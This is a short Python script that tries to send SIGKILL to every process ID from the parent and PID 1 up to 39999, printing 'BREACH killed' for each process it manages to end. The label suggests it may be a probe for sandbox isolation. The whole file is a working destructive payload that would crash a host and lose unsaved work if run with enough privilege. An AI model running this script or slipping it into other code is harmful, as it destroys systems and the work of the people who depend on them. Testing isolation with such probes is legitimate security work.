"""Sends SIGKILL to every process number there is, the parent first."""
import os
import signal

me = os.getpid()
for pid in [os.getppid(), 1, *range(2, 40000)]:
    if pid == me:
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        print("BREACH killed", pid)
    except OSError:
        pass
print("done")
